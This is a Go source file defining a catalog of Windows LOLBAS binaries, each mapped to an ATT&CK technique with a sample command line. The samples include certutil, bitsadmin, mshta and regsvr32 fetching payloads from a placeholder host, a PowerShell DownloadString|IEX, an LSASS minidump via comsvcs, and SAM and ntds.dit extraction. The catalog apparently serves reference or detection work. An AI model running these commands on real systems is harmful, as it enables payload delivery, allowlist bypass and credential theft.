package main

// The catalog is written by hand from the LOLBAS project (Living Off The Land
// Binaries, Scripts and Libraries, https://lolbas-project.github.io/, the page of
// each entry is its source column) and MITRE ATT&CK (https://attack.mitre.org/,
// technique ids as LOLBAS maps them, ATT&CK v15 names). No network is used at run
// time; extend the list by adding entries here.

// entry is one abused function of one binary.
type entry struct {
	name      string // file name, lower case
	function  string // LOLBAS category, snake case: download, execute, awl_bypass, decode, copy, ads, credentials, dump, compile
	technique string // ATT&CK id
	example   string // a representative command line (placeholders: host, c:\temp)
	source    string // the LOLBAS page
	paths     []string
}

const (
	sys32  = `C:\Windows\System32\`
	wow64  = `C:\Windows\SysWOW64\`
	net4   = `C:\Windows\Microsoft.NET\Framework\v4.0.30319\`
	net464 = `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\`
	lolbas = "https://lolbas-project.github.io/lolbas/"
)

func system(name string) []string { return []string{sys32 + name, wow64 + name} }
func dotnet(name string) []string { return []string{net4 + name, net464 + name} }
func binary(page string) string   { return lolbas + "Binaries/" + page + "/" }
func otherMS(page string) string  { return lolbas + "OtherMSBinaries/" + page + "/" }
func script(page string) string   { return lolbas + "Scripts/" + page + "/" }
func library(page string) string  { return lolbas + "Libraries/" + page + "/" }

// techniqueNames are the ATT&CK names of the techniques the catalog uses.
var techniqueNames = map[string]string{
	"T1003.001": "OS Credential Dumping: LSASS Memory",
	"T1003.002": "OS Credential Dumping: Security Account Manager",
	"T1003.003": "OS Credential Dumping: NTDS",
	"T1047":     "Windows Management Instrumentation",
	"T1053.002": "Scheduled Task/Job: At",
	"T1053.005": "Scheduled Task/Job: Scheduled Task",
	"T1105":     "Ingress Tool Transfer",
	"T1127":     "Trusted Developer Utilities Proxy Execution",
	"T1127.001": "Trusted Developer Utilities Proxy Execution: MSBuild",
	"T1140":     "Deobfuscate/Decode Files or Information",
	"T1197":     "BITS Jobs",
	"T1202":     "Indirect Command Execution",
	"T1216.001": "System Script Proxy Execution: PubPrn",
	"T1218":     "System Binary Proxy Execution",
	"T1218.001": "System Binary Proxy Execution: Compiled HTML File",
	"T1218.002": "System Binary Proxy Execution: Control Panel",
	"T1218.003": "System Binary Proxy Execution: CMSTP",
	"T1218.004": "System Binary Proxy Execution: InstallUtil",
	"T1218.005": "System Binary Proxy Execution: Mshta",
	"T1218.007": "System Binary Proxy Execution: Msiexec",
	"T1218.008": "System Binary Proxy Execution: Odbcconf",
	"T1218.009": "System Binary Proxy Execution: Regsvcs/Regasm",
	"T1218.010": "System Binary Proxy Execution: Regsvr32",
	"T1218.011": "System Binary Proxy Execution: Rundll32",
	"T1218.012": "System Binary Proxy Execution: Verclsid",
	"T1218.013": "System Binary Proxy Execution: Mavinject",
	"T1218.014": "System Binary Proxy Execution: MMC",
	"T1220":     "XSL Script Processing",
	"T1543.003": "Create or Modify System Process: Windows Service",
	"T1546.007": "Event Triggered Execution: Netsh Helper DLL",
	"T1564.004": "Hide Artifacts: NTFS File Attributes",
}

var catalog = []entry{
	{"certutil.exe", "download", "T1105", `certutil.exe -urlcache -split -f http://host/payload.exe c:\temp\payload.exe`, binary("Certutil"), system("certutil.exe")},
	{"certutil.exe", "decode", "T1140", `certutil.exe -decode c:\temp\payload.b64 c:\temp\payload.exe`, binary("Certutil"), system("certutil.exe")},
	{"certutil.exe", "ads", "T1564.004", `certutil.exe -urlcache -split -f http://host/payload.ps1 c:\temp\file.txt:payload.ps1`, binary("Certutil"), system("certutil.exe")},
	{"bitsadmin.exe", "download", "T1197", `bitsadmin /transfer job /download /priority high http://host/payload.exe c:\temp\payload.exe`, binary("Bitsadmin"), system("bitsadmin.exe")},
	{"bitsadmin.exe", "execute", "T1197", `bitsadmin /create job & bitsadmin /addfile job c:\windows\system32\cmd.exe c:\temp\cmd.exe & bitsadmin /SetNotifyCmdLine job c:\temp\cmd.exe NULL & bitsadmin /resume job`, binary("Bitsadmin"), system("bitsadmin.exe")},
	{"mshta.exe", "execute", "T1218.005", `mshta.exe http://host/payload.hta`, binary("Mshta"), system("mshta.exe")},
	{"mshta.exe", "execute", "T1218.005", `mshta.exe vbscript:Close(Execute("GetObject(""script:http://host/payload.sct"")"))`, binary("Mshta"), system("mshta.exe")},
	{"regsvr32.exe", "awl_bypass", "T1218.010", `regsvr32.exe /s /n /u /i:http://host/payload.sct scrobj.dll`, binary("Regsvr32"), system("regsvr32.exe")},
	{"rundll32.exe", "execute", "T1218.011", `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://host/payload.sct")`, binary("Rundll32"), system("rundll32.exe")},
	{"rundll32.exe", "execute", "T1218.011", `rundll32.exe c:\temp\payload.dll,EntryPoint`, binary("Rundll32"), system("rundll32.exe")},
	{"comsvcs.dll", "dump", "T1003.001", `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 c:\temp\lsass.dmp full`, library("Comsvcs"), system("comsvcs.dll")},
	{"msiexec.exe", "execute", "T1218.007", `msiexec.exe /q /i http://host/payload.msi`, binary("Msiexec"), system("msiexec.exe")},
	{"msiexec.exe", "execute", "T1218.007", `msiexec.exe /y c:\temp\payload.dll`, binary("Msiexec"), system("msiexec.exe")},
	{"installutil.exe", "awl_bypass", "T1218.004", `InstallUtil.exe /logfile= /LogToConsole=false /U c:\temp\payload.dll`, binary("Installutil"), dotnet("InstallUtil.exe")},
	{"regasm.exe", "awl_bypass", "T1218.009", `regasm.exe /U c:\temp\payload.dll`, binary("Regasm"), dotnet("regasm.exe")},
	{"regsvcs.exe", "awl_bypass", "T1218.009", `regsvcs.exe c:\temp\payload.dll`, binary("Regsvcs"), dotnet("regsvcs.exe")},
	{"msbuild.exe", "awl_bypass", "T1127.001", `msbuild.exe c:\temp\project.csproj`, binary("Msbuild"), dotnet("msbuild.exe")},
	{"csc.exe", "compile", "T1127", `csc.exe -out:c:\temp\payload.exe c:\temp\payload.cs`, binary("Csc"), dotnet("csc.exe")},
	{"cmstp.exe", "awl_bypass", "T1218.003", `cmstp.exe /ni /s c:\temp\payload.inf`, binary("Cmstp"), system("cmstp.exe")},
	{"odbcconf.exe", "execute", "T1218.008", `odbcconf.exe /a {REGSVR c:\temp\payload.dll}`, binary("Odbcconf"), system("odbcconf.exe")},
	{"hh.exe", "execute", "T1218.001", `hh.exe http://host/payload.chm`, binary("Hh"), []string{`C:\Windows\hh.exe`, `C:\Windows\SysWOW64\hh.exe`}},
	{"control.exe", "execute", "T1218.002", `control.exe c:\temp\payload.cpl`, binary("Control"), system("control.exe")},
	{"mavinject.exe", "execute", "T1218.013", `mavinject.exe 3110 /INJECTRUNNING c:\temp\payload.dll`, binary("Mavinject"), system("mavinject.exe")},
	{"verclsid.exe", "execute", "T1218.012", `verclsid.exe /S /C {00000000-0000-0000-0000-000000000000}`, binary("Verclsid"), system("verclsid.exe")},
	{"mmc.exe", "execute", "T1218.014", `mmc.exe -Embedding c:\temp\payload.msc`, binary("Mmc"), system("mmc.exe")},
	{"wmic.exe", "execute", "T1047", `wmic.exe process call create "c:\temp\payload.exe"`, binary("Wmic"), []string{sys32 + `wbem\wmic.exe`, wow64 + `wbem\wmic.exe`}},
	{"wmic.exe", "execute", "T1220", `wmic.exe os get /format:"http://host/payload.xsl"`, binary("Wmic"), []string{sys32 + `wbem\wmic.exe`, wow64 + `wbem\wmic.exe`}},
	{"msxsl.exe", "execute", "T1220", `msxsl.exe c:\temp\customers.xml c:\temp\payload.xsl`, otherMS("Msxsl"), nil},
	{"forfiles.exe", "execute", "T1202", `forfiles.exe /p c:\windows\system32 /m notepad.exe /c c:\temp\payload.exe`, binary("Forfiles"), system("forfiles.exe")},
	{"pcalua.exe", "execute", "T1202", `pcalua.exe -a c:\temp\payload.exe`, binary("Pcalua"), []string{sys32 + "pcalua.exe"}},
	{"conhost.exe", "execute", "T1202", `conhost.exe c:\temp\payload.exe`, binary("Conhost"), []string{sys32 + "conhost.exe"}},
	{"explorer.exe", "execute", "T1202", `explorer.exe /root,"c:\temp\payload.exe"`, binary("Explorer"), []string{`C:\Windows\explorer.exe`, `C:\Windows\SysWOW64\explorer.exe`}},
	{"bash.exe", "execute", "T1202", `bash.exe -c "cmd /c c:\temp\payload.exe"`, binary("Bash"), []string{sys32 + "bash.exe", wow64 + "bash.exe"}},
	{"wsl.exe", "execute", "T1202", `wsl.exe -e /mnt/c/temp/payload.exe`, binary("Wsl"), []string{sys32 + "wsl.exe"}},
	{"ftp.exe", "execute", "T1202", `ftp.exe -s:c:\temp\commands.txt`, binary("Ftp"), system("ftp.exe")},
	{"diskshadow.exe", "execute", "T1202", `diskshadow.exe /s c:\temp\script.txt`, binary("Diskshadow"), system("diskshadow.exe")},
	{"schtasks.exe", "execute", "T1053.005", `schtasks.exe /create /sc minute /mo 1 /tn Updater /tr c:\temp\payload.exe`, binary("Schtasks"), system("schtasks.exe")},
	{"at.exe", "execute", "T1053.002", `at.exe 09:00 /interactive /every:m,t,w,th,f,s,su c:\temp\payload.exe`, binary("At"), system("at.exe")},
	{"cscript.exe", "ads", "T1564.004", `cscript.exe //e:vbscript c:\temp\file.txt:payload.vbs`, binary("Cscript"), system("cscript.exe")},
	{"wscript.exe", "ads", "T1564.004", `wscript.exe //e:vbscript c:\temp\file.txt:payload.vbs`, binary("Wscript"), system("wscript.exe")},
	{"pubprn.vbs", "execute", "T1216.001", `cscript.exe C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs 127.0.0.1 script:http://host/payload.sct`, script("Pubprn"), []string{sys32 + `Printing_Admin_Scripts\en-US\pubprn.vbs`}},
	{"esentutl.exe", "copy", "T1105", `esentutl.exe /y \\host\share\payload.exe /d c:\temp\payload.exe /o`, binary("Esentutl"), system("esentutl.exe")},
	{"esentutl.exe", "credentials", "T1003.003", `esentutl.exe /y /vss c:\windows\ntds\ntds.dit /d c:\temp\ntds.dit`, binary("Esentutl"), system("esentutl.exe")},
	{"expand.exe", "download", "T1105", `expand.exe \\host\share\payload.bat c:\temp\payload.bat`, binary("Expand"), system("expand.exe")},
	{"extrac32.exe", "download", "T1105", `extrac32.exe /Y /C \\host\share\payload.exe c:\temp\payload.exe`, binary("Extrac32"), system("extrac32.exe")},
	{"findstr.exe", "download", "T1105", `findstr.exe /V /L W3AllLov3LolBas \\host\share\payload.exe > c:\temp\payload.exe`, binary("Findstr"), system("findstr.exe")},
	{"replace.exe", "download", "T1105", `replace.exe \\host\share\payload.cab c:\temp /A`, binary("Replace"), system("replace.exe")},
	{"print.exe", "download", "T1105", `print.exe /D:c:\temp\payload.exe \\host\share\payload.exe`, binary("Print"), system("print.exe")},
	{"curl.exe", "download", "T1105", `curl.exe -s http://host/payload.exe -o c:\temp\payload.exe`, binary("Curl"), system("curl.exe")},
	{"desktopimgdownldr.exe", "download", "T1105", `set "SYSTEMROOT=C:\Windows\Temp" && cmd /c desktopimgdownldr.exe /lockscreenurl:http://host/payload.exe /eventName:desktopimgdownldr`, binary("Desktopimgdownldr"), []string{sys32 + "desktopimgdownldr.exe"}},
	{"certoc.exe", "download", "T1105", `certoc.exe -GetCACAPS http://host/payload.ps1`, binary("Certoc"), system("certoc.exe")},
	{"certoc.exe", "execute", "T1218", `certoc.exe -LoadDLL c:\temp\payload.dll`, binary("Certoc"), system("certoc.exe")},
	{"ieexec.exe", "execute", "T1218", `ieexec.exe http://host/payload.exe`, binary("Ieexec"), []string{`C:\Windows\Microsoft.NET\Framework\v2.0.50727\ieexec.exe`, `C:\Windows\Microsoft.NET\Framework64\v2.0.50727\ieexec.exe`}},
	{"infdefaultinstall.exe", "execute", "T1218", `InfDefaultInstall.exe c:\temp\payload.inf`, binary("Infdefaultinstall"), system("infdefaultinstall.exe")},
	{"presentationhost.exe", "execute", "T1218", `PresentationHost.exe c:\temp\payload.xbap`, binary("Presentationhost"), system("PresentationHost.exe")},
	{"syncappvpublishingserver.exe", "execute", "T1218", `SyncAppvPublishingServer.exe "n;(New-Object Net.WebClient).DownloadString('http://host/payload.ps1') | IEX"`, binary("Syncappvpublishingserver"), system("SyncAppvPublishingServer.exe")},
	{"atbroker.exe", "execute", "T1218", `ATBroker.exe /start payload`, binary("Atbroker"), system("ATBroker.exe")},
	{"msdt.exe", "awl_bypass", "T1218", `msdt.exe -path C:\WINDOWS\diagnostics\index\PCWDiagnostic.xml -af c:\temp\PCW8E57.xml /skip TRUE`, binary("Msdt"), system("msdt.exe")},
	{"reg.exe", "credentials", "T1003.002", `reg.exe save HKLM\SAM c:\temp\sam.save`, binary("Reg"), system("reg.exe")},
	{"reg.exe", "ads", "T1564.004", `reg.exe export HKLM\SOFTWARE\Microsoft\Evilreg c:\temp\file.txt:evilreg.reg`, binary("Reg"), system("reg.exe")},
	{"dnscmd.exe", "execute", "T1543.003", `dnscmd.exe dc1.example.com /config /serverlevelplugindll \\host\share\payload.dll`, binary("Dnscmd"), system("dnscmd.exe")},
	{"netsh.exe", "execute", "T1546.007", `netsh.exe add helper c:\temp\payload.dll`, binary("Netsh"), system("netsh.exe")},
}
